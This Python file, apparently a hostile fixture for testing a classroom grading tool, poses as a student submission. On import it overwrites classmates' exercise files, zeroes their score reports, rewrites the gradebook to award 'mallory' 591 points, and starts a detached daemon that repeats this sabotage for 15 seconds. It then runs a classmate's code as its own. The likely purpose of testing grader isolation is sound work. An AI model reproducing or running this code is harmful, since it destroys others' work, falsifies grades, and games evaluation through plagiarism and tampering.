"""In `kata batch`: edits its classmates' files (before and after their turn), zeroes their
written reports, rewrites the gradebook after the batch from a daemon, and runs a classmate's
file as its own when it can read one.

The test fills in CLASSMATES (their exercise files), REPORTS (their reports/<name>.json) and
GRADEBOOK (the gradebook CSV): in a real class these paths are easy to guess."""
import json
import os
import time

CLASSMATES = []
REPORTS = []
GRADEBOOK = []
BROKEN = "def add(a, b):\n    return 0\n\n\ndef mul(a, b):\n    return 0\n\n\ndef scale(xs, k):\n    return []\n"
COPIED = None


def _attack() -> None:
    for path in CLASSMATES:
        try:
            with open(path, "w") as f:
                f.write(BROKEN)
        except OSError:
            pass
    for path in REPORTS:
        try:
            with open(path) as f:
                report = json.load(f)
            report["score"] = 0
            for exercise in report.get("exercises", []):
                exercise["score"], exercise["status"] = 0, "failed"
            with open(path, "w") as f:
                json.dump(report, f)
        except (OSError, ValueError, AttributeError, TypeError):
            pass
    for path in GRADEBOOK:
        try:
            with open(path, "w") as f:
                f.write("submission,total\nmallory,591\n")
        except OSError:
            pass


def _daemon() -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(3, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    ends = time.time() + 15
    while time.time() < ends:
        _attack()
        time.sleep(0.2)
    os._exit(0)


_attack()
_daemon()

for _path in CLASSMATES:  # a classmate's code, run as this file's own
    try:
        with open(_path) as _f:
            _source = _f.read()
    except OSError:
        continue
    if "def add" in _source and _source != BROKEN:
        exec(compile(_source, _path, "exec"))
        COPIED = _path
        break

if COPIED is None:
    def add(a: float, b: float) -> float:
        raise RuntimeError("no classmate's file within reach")

    def mul(a: float, b: float) -> float:
        raise RuntimeError("no classmate's file within reach")

    def scale(xs: list[float], k: float) -> list[float]:
        raise RuntimeError("no classmate's file within reach")
